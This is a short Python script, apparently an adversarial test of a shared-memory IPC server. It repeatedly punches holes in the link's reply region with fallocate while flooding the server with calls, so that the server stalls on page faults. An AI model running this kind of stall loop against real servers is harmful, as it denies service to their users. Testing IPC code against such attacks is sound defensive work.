"""A large hole is punched into the attacker's own link while it calls, on and on: who touches a page of it waits for the punch.

Words: the server's name.
"""

import ctypes
import sys
import time

import wire

ALLOCATE, PUNCH_HOLE, KEEP_SIZE = 0, 2, 1


def punch(fd):
    """The reply area of both sides, with all its pages, so that a punch takes long."""
    call = wire.libc.fallocate
    call.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
    start = wire.REPLIES_AT
    while True:
        call(fd, ALLOCATE, start, wire.REGION_BYTES - start)
        call(fd, PUNCH_HOLE | KEEP_SIZE, start, wire.REGION_BYTES - start)


def main():
    link = wire.Link(sys.argv[1])
    link.call(b"hello")
    wire.fork(lambda: punch(link.region_fd))
    wire.here()
    index = 0
    while not wire.is_told():
        if link.room(0) < 2:
            time.sleep(0.0001)
            continue
        # What is answered is not waited for: the answer may lie in the hole.
        index = (index + 1) % 256
        link.use(index)
        link.post(b"x" * 6000, kind=wire.CALL, reply=index, generation=index + 1)
        time.sleep(0.0002)


main()
